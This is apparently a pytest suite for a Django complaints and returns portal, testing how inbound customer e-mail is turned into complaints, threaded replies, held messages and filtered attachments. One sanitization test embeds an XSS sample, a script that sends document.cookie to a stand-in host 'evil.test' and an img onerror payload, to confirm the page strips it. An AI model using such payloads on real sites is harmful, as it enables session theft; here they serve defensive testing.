"""E-mail in, answers by e-mail: new mail of a customer user files a complaint, a reply to a
case's e-mail threads into the case with the quotes stripped, automatic mail is ignored, a
token of another tenant refused, HTML with scripts stored as text, malformed mail and
strangers held for staff, files through the upload checks. Over the real IMAP server where
fetching is part of the story; stored directly where only the handlers are."""

from __future__ import annotations

import logging

import pytest
from django.core import mail as django_mail
from django.urls import reverse

from complaints import services as complaint_services
from complaints.models import (
    Complaint,
    ComplaintAttachment,
    ComplaintMessage,
    ComplaintStatus,
)
from customers.cases import CaseChannel
from customers.models import OrderLine
from returns.models import ReturnAttachment, ReturnEvent
from rma_portal.inbound import replies, services
from rma_portal.inbound.models import InboundMessage, MessageStatus
from rma_portal.notifications.models import Notification
from rma_portal.notifications.services import notification_deliver
from rma_portal.tenancy.context import tenant_context
from tests.returns.conftest import delivered_order, file_return, policy_a  # noqa: F401

from .conftest import build_mail, png_bytes, receive

pytestmark = pytest.mark.django_db


def _only_message(mailbox) -> InboundMessage:
    return InboundMessage.unscoped.get(mailbox=mailbox)


def _file_complaint(world, **fields) -> Complaint:
    values = {
        "category": "product_quality",
        "priority": "normal",
        "subject": "Cracked housings",
        "description": "Three housings arrived cracked.",
        **fields,
    }
    with tenant_context(world.tenant):
        return complaint_services.complaint_file(
            customer_account=world.company, reporter=world.customer, **values
        )


def _sent_to(user, event: str):
    """Send the pending e-mail `event` to `user` through the outbox; the e-mail as sent."""
    row = Notification.unscoped.get(recipient=user, event=event)
    before = len(django_mail.outbox)
    with tenant_context(row.tenant):
        assert notification_deliver(notification_id=row.pk).outcome == "sent"
    return django_mail.outbox[before]


def _quoted(text: str) -> str:
    return "\n".join(f"> {line}" for line in text.splitlines())


# --- new mail ---------------------------------------------------------------------------------


def test_an_email_of_a_customer_user_over_imap_files_a_complaint(
    world_a, imap_folder, make_mailbox, mail_handlers
):
    # given: the tenant's mailbox on the IMAP server, and a customer user's e-mail in it
    mailbox = make_mailbox(world_a.tenant, imap_folder)
    photo = png_bytes()
    imap_folder.append(
        build_mail(
            "Pump housing cracked",
            sender=f"Jan Kowalski <{world_a.customer.email.upper()}>",
            text="The pump we got last week leaks at the housing.\n\nBest regards,\nJan\n",
            attachments=(("housing.png", "image/png", photo),),
        )
    )

    # when: the mailbox is fetched (beat's poll does the same)
    result = services.fetch_mailbox(mailbox)

    # then: a complaint of the customer, filed by e-mail, without the signature
    assert (result.stored, result.processed) == (1, 1)
    complaint = Complaint.unscoped.get(tenant=world_a.tenant)
    assert (complaint.reporter, complaint.customer_account) == (world_a.customer, world_a.company)
    assert (complaint.channel, complaint.filed_by) == (CaseChannel.EMAIL, None)
    assert complaint.subject == "Pump housing cracked"
    assert complaint.description == "The pump we got last week leaks at the housing."
    assert complaint.status in (ComplaintStatus.NEW, ComplaintStatus.OPEN)
    # the photo went through the upload checks (re-encoded) and is the customer's to see
    [public] = ComplaintAttachment.unscoped.filter(complaint=complaint, message=None)
    assert (public.original_name, public.content_type) == ("housing.png", "image/png")
    # the e-mail as received, for staff only
    note = ComplaintMessage.unscoped.get(complaint=complaint)
    assert note.is_internal
    [original] = ComplaintAttachment.unscoped.filter(message=note)
    assert original.content_type == "message/rfc822"
    message = _only_message(mailbox)
    assert original.file.read() == message.raw_bytes()
    assert (message.status, message.case_kind, message.case_id, message.case_label) == (
        MessageStatus.PROCESSED,
        "complaint",
        complaint.pk,
        complaint.code,
    )
    assert complaint.code in message.status_reason
    # the customer got the usual e-mail about the complaint they filed
    assert Notification.unscoped.filter(
        recipient=world_a.customer, event="complaint.filed"
    ).exists()


def test_the_customer_sees_the_complaint_but_not_the_original(
    world_a, folder_mailbox, mail_handlers, login
):
    receive(folder_mailbox(world_a.tenant), build_mail(sender=world_a.customer.email))
    complaint = Complaint.unscoped.get(tenant=world_a.tenant)

    page = login(world_a.customer).get(reverse("portal:complaint_detail", args=[complaint.pk]))

    assert page.status_code == 200
    assert b"The pump we got last week leaks." in page.content
    assert b".eml" not in page.content
    assert b"The e-mail as received" not in page.content


def test_html_only_mail_with_scripts_is_stored_as_text(
    world_a, folder_mailbox, mail_handlers, login
):
    html = (
        "<html><head><script>alert('head')</script></head><body>"
        "<p>The <b>valve</b> sticks.</p><script>fetch('https://evil.test/'+document.cookie)"
        "</script><img src=x onerror=\"alert('img')\"><p>Order 4711.</p></body></html>"
    )
    message = receive(
        folder_mailbox(world_a.tenant),
        build_mail("Valve", sender=world_a.customer.email, text=None, html=html),
    )

    complaint = Complaint.unscoped.get(tenant=world_a.tenant)
    assert complaint.description == "The valve sticks.\n\nOrder 4711."
    assert message.raw_bytes().count(b"<script>") == 2  # the original is kept as it came
    page = login(world_a.customer).get(reverse("portal:complaint_detail", args=[complaint.pk]))
    assert b"The valve sticks." in page.content
    for unsafe in (b"evil.test", b"onerror", b"alert("):
        assert unsafe not in page.content


def test_mail_from_an_unknown_sender_is_held_then_matched_by_staff(
    world_a, folder_mailbox, mail_handlers, login, django_capture_on_commit_callbacks
):
    # given: mail from an address no user has (the customer's private one)
    message = receive(
        folder_mailbox(world_a.tenant),
        build_mail("Broken valve", sender="Jan <jan.private@home.test>", text="It drips.\n"),
    )
    assert message.status == MessageStatus.HELD
    assert "Unknown sender jan.private@home.test" in message.status_reason
    assert not Complaint.unscoped.exists()
    client = login(world_a.tenant_admin)
    changelist = reverse("admin:inbound_inboundmessage_changelist")
    chosen = {"action": "match_selected", "_selected_action": [message.pk]}

    # when: a tenant admin chooses "match the sender", and the customer user on its page
    page = client.post(changelist, chosen)
    assert page.status_code == 200
    assert world_a.customer.email in page.content.decode()
    assert world_a.other_company_user.email in page.content.decode()  # any of the tenant
    response = client.post(
        changelist, {**chosen, "apply": "1", "user": world_a.customer.pk}, follow=True
    )

    # then: the complaint is filed for that customer user, by that admin, from the e-mail
    assert "1 message was matched to" in response.content.decode()
    complaint = Complaint.unscoped.get(tenant=world_a.tenant)
    assert (complaint.reporter, complaint.filed_by, complaint.channel) == (
        world_a.customer,
        world_a.tenant_admin,
        CaseChannel.EMAIL,
    )
    assert complaint.description == "It drips."
    message.refresh_from_db()
    assert (message.status, message.matched_user, message.matched_by) == (
        MessageStatus.PROCESSED,
        world_a.customer,
        world_a.tenant_admin,
    )
    assert message.case_label == complaint.code


def test_a_held_message_can_be_rejected(world_a, folder_mailbox, mail_handlers, login):
    message = receive(folder_mailbox(world_a.tenant), build_mail(sender="spam@spam.test"))
    client = login(world_a.tenant_admin)

    response = client.post(
        reverse("admin:inbound_inboundmessage_changelist"),
        {"action": "reject_selected", "_selected_action": [message.pk]},
        follow=True,
    )

    assert "1 message was rejected." in response.content.decode()
    message.refresh_from_db()
    assert message.status == MessageStatus.IGNORED
    assert message.status_reason.startswith(f"Rejected by {world_a.tenant_admin.email}")
    assert not Complaint.unscoped.exists()


def test_only_customer_users_of_the_tenant_can_be_matched(
    world_a, world_b, folder_mailbox, mail_handlers, login
):
    message = receive(folder_mailbox(world_a.tenant), build_mail(sender="who@home.test"))
    client = login(world_a.tenant_admin)
    chosen = {"action": "match_selected", "_selected_action": [message.pk], "apply": "1"}

    for stranger in (world_b.customer, world_a.agent):
        page = client.post(
            reverse("admin:inbound_inboundmessage_changelist"), {**chosen, "user": stranger.pk}
        )
        assert page.status_code == 200  # the form again, with its error
        assert "Select a valid choice" in page.content.decode()
    message.refresh_from_db()
    assert (message.status, message.matched_user) == (MessageStatus.HELD, None)


def test_mail_forwarded_by_staff_is_held_for_matching(world_a, folder_mailbox, mail_handlers):
    message = receive(
        folder_mailbox(world_a.tenant),
        build_mail("Fwd: broken valve", sender=world_a.agent.email),
    )
    assert message.status == MessageStatus.HELD
    assert "not a customer user" in message.status_reason


# --- replies ----------------------------------------------------------------------------------


def test_a_reply_to_a_status_email_threads_into_the_complaint_over_imap(
    world_a, imap_folder, make_mailbox, mail_handlers, mailoutbox
):
    # given: a complaint waiting for the customer, and the e-mail that asked them
    mailbox = make_mailbox(world_a.tenant, imap_folder)
    complaint = _file_complaint(world_a)
    with tenant_context(world_a.tenant):
        complaint = complaint_services.complaint_assign(
            complaint=complaint, actor=world_a.agent, assignee=world_a.agent
        )
        complaint = complaint_services.complaint_start(complaint=complaint, actor=world_a.agent)
        complaint = complaint_services.complaint_wait_for_customer(
            complaint=complaint, actor=world_a.agent, question="Please send the serial number."
        )
    asked = _sent_to(world_a.customer, "complaint.awaiting_customer")
    [reply_to] = asked.reply_to
    token = replies.case_token(tenant_id=world_a.tenant.pk, kind="complaint", case_id=complaint.pk)
    assert reply_to == f"support+c-{token}@alpha.test"
    assert "replying to this e-mail" in asked.body

    # when: the customer answers it from their mail program, quoting it
    imap_folder.append(
        build_mail(
            f"Re: {asked.subject}",
            sender=f"Jan Kowalski <{world_a.customer.email}>",
            to=reply_to,
            text=(
                "The serial number is SN-4711.\n\nBest regards,\nJan\n\n"
                f"On Tue, 17 Nov 2026 at 10:00, {asked.from_email} wrote:\n"
                f"{_quoted(asked.body)}\n"
            ),
            headers={
                "In-Reply-To": asked.extra_headers["Message-ID"],
                "References": f"{asked.extra_headers['References']} "
                f"{asked.extra_headers['Message-ID']}",
            },
        )
    )
    services.fetch_mailbox(mailbox)

    # then: the answer is the customer's message on the complaint, without the quote, and
    # the complaint no longer waits for them
    answer = ComplaintMessage.unscoped.get(
        complaint=complaint, author=world_a.customer, is_internal=False
    )
    assert answer.body == "The serial number is SN-4711."
    complaint.refresh_from_db()
    assert complaint.status == ComplaintStatus.IN_PROGRESS
    message = _only_message(mailbox)
    assert (message.status, message.case_label) == (MessageStatus.PROCESSED, complaint.code)
    original = ComplaintMessage.unscoped.get(complaint=complaint, is_internal=True)
    assert ComplaintAttachment.unscoped.get(message=original).file.read() == message.raw_bytes()


def test_a_reply_whose_address_lost_its_token_threads_by_its_references(
    world_a, folder_mailbox, mail_handlers, mailoutbox
):
    box = folder_mailbox(world_a.tenant)
    complaint = _file_complaint(world_a)
    filed = _sent_to(world_a.customer, "complaint.filed")

    message = receive(
        box,
        build_mail(
            "Re: your complaint",
            sender=world_a.customer.email,
            to="support@alpha.test",  # typed again
            text="One more thing: it also hums.\n",
            headers={"References": filed.extra_headers["References"]},
        ),
    )

    assert message.status == MessageStatus.PROCESSED
    assert ComplaintMessage.unscoped.get(complaint=complaint, is_internal=False).body == (
        "One more thing: it also hums."
    )
    assert Complaint.unscoped.count() == 1  # not a new complaint


def test_a_staff_members_reply_by_email_is_a_public_reply(
    world_a, folder_mailbox, mail_handlers, mailoutbox
):
    complaint = _file_complaint(world_a)
    token = replies.case_token(tenant_id=world_a.tenant.pk, kind="complaint", case_id=complaint.pk)

    receive(
        folder_mailbox(world_a.tenant),
        build_mail(
            "Re: complaint",
            sender=world_a.agent.email,
            to=f"support+c-{token}@alpha.test",
            text="We will replace the housings.\n",
        ),
    )

    reply = ComplaintMessage.unscoped.get(
        complaint=complaint, author=world_a.agent, is_internal=False
    )
    assert reply.body == "We will replace the housings."
    assert Notification.unscoped.filter(
        recipient=world_a.customer, event="complaint.reply"
    ).exists()


def test_a_reply_from_someone_else_is_held(world_a, folder_mailbox, mail_handlers):
    complaint = _file_complaint(world_a)
    token = replies.case_token(tenant_id=world_a.tenant.pk, kind="complaint", case_id=complaint.pk)
    box = folder_mailbox(world_a.tenant)

    for sender in (world_a.other_company_user.email, "stranger@elsewhere.test"):
        message = receive(
            box, build_mail(sender=sender, to=f"support+c-{token}@alpha.test", text="Me too.\n")
        )
        assert message.status == MessageStatus.HELD, sender
        assert message.case_label == complaint.code
    assert not ComplaintMessage.unscoped.filter(complaint=complaint).exists()


def test_an_auto_reply_to_a_case_email_is_ignored(world_a, folder_mailbox, mail_handlers):
    complaint = _file_complaint(world_a)
    token = replies.case_token(tenant_id=world_a.tenant.pk, kind="complaint", case_id=complaint.pk)

    message = receive(
        folder_mailbox(world_a.tenant),
        build_mail(
            "Out of office: Re: your complaint",
            sender=world_a.customer.email,
            to=f"support+c-{token}@alpha.test",
            text="I am out of the office until Monday.\n",
            headers={"Auto-Submitted": "auto-replied", "X-Autoreply": "yes"},
        ),
    )

    assert message.status == MessageStatus.IGNORED
    assert "Auto-Submitted: auto-replied" in message.status_reason
    assert not ComplaintMessage.unscoped.filter(complaint=complaint).exists()
    # no answer goes back either (no loop): nothing was queued for anybody
    assert not Notification.unscoped.exclude(event="complaint.filed").exists()


def test_a_bounce_never_becomes_a_complaint(world_a, folder_mailbox, mail_handlers):
    message = receive(
        folder_mailbox(world_a.tenant),
        build_mail("Undelivered Mail Returned to Sender", sender="MAILER-DAEMON@mx.alpha.test"),
    )
    assert message.status == MessageStatus.IGNORED
    assert not Complaint.unscoped.exists()


def test_a_token_of_another_tenant_is_refused_and_logged(
    world_a, world_b, folder_mailbox, mail_handlers, caplog
):
    # given: a complaint of tenant B, and its reply address sent to tenant A's mailbox, by
    # a customer user of tenant A
    complaint_b = _file_complaint(world_b)
    token_b = replies.case_token(
        tenant_id=world_b.tenant.pk, kind="complaint", case_id=complaint_b.pk
    )

    with caplog.at_level(logging.WARNING, logger="rma_portal.inbound.services"):
        message = receive(
            folder_mailbox(world_a.tenant),
            build_mail(
                sender=world_a.customer.email,
                to=f"support+c-{token_b}@alpha.test",
                text="Add this to your complaint, please.\n",
            ),
        )

    # then: refused, with the reason; nothing written in either tenant
    assert message.status == MessageStatus.REFUSED
    assert "another tenant" in message.status_reason
    assert "names a case of another tenant" in caplog.text
    assert not ComplaintMessage.unscoped.exists()
    assert Complaint.unscoped.filter(tenant=world_a.tenant).count() == 0


def test_a_reply_address_with_a_forged_token_is_held(world_a, folder_mailbox, mail_handlers):
    complaint = _file_complaint(world_a)
    token = replies.case_token(tenant_id=world_a.tenant.pk, kind="complaint", case_id=complaint.pk)
    forged = token[:-3] + ("aaa" if not token.endswith("aaa") else "bbb")

    message = receive(
        folder_mailbox(world_a.tenant),
        build_mail(sender=world_a.customer.email, to=f"support+c-{forged}@alpha.test"),
    )

    assert message.status == MessageStatus.HELD
    assert "did not make" in message.status_reason
    assert not ComplaintMessage.unscoped.exists()


def test_a_reply_to_a_return_email_is_a_comment_on_the_return(
    world_a,
    folder_mailbox,
    mail_handlers,
    mailoutbox,
    delivered_order,  # noqa: F811 - the fixture imported above
    file_return,  # noqa: F811
):
    # given: a submitted return and the e-mail that confirmed it
    box = folder_mailbox(world_a.tenant)
    line = OrderLine.unscoped.get(order=delivered_order, line_number=1)
    return_request = file_return(
        world_a.customer,
        world_a.company,
        [{"order_line_id": line.pk, "quantity": 1, "reason": "defective"}],
    )
    submitted = _sent_to(world_a.customer, "return.submitted")
    [reply_to] = submitted.reply_to
    assert "+c-r" in reply_to

    # when: the customer answers it with a photo and a file the checks refuse
    receive(
        box,
        build_mail(
            f"Re: {submitted.subject}",
            sender=world_a.customer.email,
            to=reply_to,
            text=f"The box is dented, photo attached.\n\nOn Monday, Alpha wrote:\n"
            f"{_quoted(submitted.body)}\n",
            attachments=(
                ("box.png", "image/png", png_bytes()),
                ("tool.exe", "application/octet-stream", b"MZ" + b"\x00" * 100),
            ),
        ),
    )

    # then
    comment = ReturnEvent.unscoped.get(
        return_request=return_request, action="comment", is_public=True
    )
    assert comment.actor == world_a.customer
    assert comment.note.startswith("The box is dented, photo attached.\n\n")
    assert "tool.exe" in comment.note
    assert [
        a.original_name for a in ReturnAttachment.unscoped.filter(return_request=return_request)
    ] == ["box.png"]
    internal = ReturnEvent.unscoped.get(
        return_request=return_request, action="comment", is_public=False
    )
    assert "inbound message" in internal.note
    assert not Complaint.unscoped.exists()


# --- bad input --------------------------------------------------------------------------------


def test_malformed_mime_is_held_with_its_reason(world_a, imap_folder, make_mailbox, mail_handlers):
    mailbox = make_mailbox(world_a.tenant, imap_folder)
    broken = (
        f"From: {world_a.customer.email}\r\nTo: support@alpha.test\r\nSubject: Broken\r\n"
        "Message-ID: <broken@customer.test>\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=NEVER-THERE\r\n\r\n"
        "This body has no parts at all.\r\n"
    ).encode()
    imap_folder.append(broken)

    services.fetch_mailbox(mailbox)

    message = _only_message(mailbox)
    assert message.status == MessageStatus.HELD
    assert "Malformed MIME" in message.status_reason
    assert message.raw_bytes() == broken  # kept for a person to look at
    assert not Complaint.unscoped.exists()


def test_a_file_the_upload_checks_refuse_is_left_out_with_a_note(
    world_a, folder_mailbox, mail_handlers
):
    receive(
        folder_mailbox(world_a.tenant),
        build_mail(
            sender=world_a.customer.email,
            text="Invoice and photo attached.\n",
            attachments=(
                ("invoice.pdf", "application/pdf", b"MZ not a pdf at all"),
                ("photo.png", "image/png", png_bytes()),
            ),
        ),
    )

    complaint = Complaint.unscoped.get()
    assert complaint.description.startswith("Invoice and photo attached.\n\n")
    assert "Not attached (refused by the file checks):\n- invoice.pdf:" in complaint.description
    public = ComplaintAttachment.unscoped.filter(complaint=complaint, message=None)
    assert [a.original_name for a in public] == ["photo.png"]


@pytest.mark.slow
def test_a_30_mb_attachment_is_refused_by_the_upload_checks_and_left_out(
    world_a, folder_mailbox, mail_handlers, settings
):
    # A 30 MB file is some 40 MB encoded: above the default INBOUND_MAIL_MAX_BYTES the whole
    # message is refused at fetch time (test_fetch); with room for it, the file is refused.
    settings.INBOUND_MAIL_MAX_BYTES = 64 * 1024 * 1024
    huge = b"%PDF-1.7\n" + b"0" * (30 * 1024 * 1024)

    message = receive(
        folder_mailbox(world_a.tenant),
        build_mail(
            sender=world_a.customer.email,
            text="The manual is attached.\n",
            attachments=(("manual.pdf", "application/pdf", huge),),
        ),
    )

    assert message.status == MessageStatus.PROCESSED
    assert "1 file(s) left out" in message.status_reason
    complaint = Complaint.unscoped.get()
    assert "manual.pdf" in complaint.description
    assert "too large" in complaint.description
    [only] = ComplaintAttachment.unscoped.filter(complaint=complaint)
    assert (only.content_type, only.message.is_internal) == ("message/rfc822", True)


def test_a_failed_dmarc_check_holds_the_mail_until_staff_match_it(
    world_a, folder_mailbox, mail_handlers
):
    message = receive(
        folder_mailbox(world_a.tenant),
        build_mail(
            sender=world_a.customer.email,
            headers={"Authentication-Results": "mx.alpha.test; dmarc=fail header.from=x"},
        ),
    )
    assert message.status == MessageStatus.HELD
    assert "DMARC" in message.status_reason

    InboundMessage.unscoped.filter(pk=message.pk).update(matched_user=world_a.customer)
    with tenant_context(world_a.tenant):
        assert services.process_again(message) == MessageStatus.PROCESSED
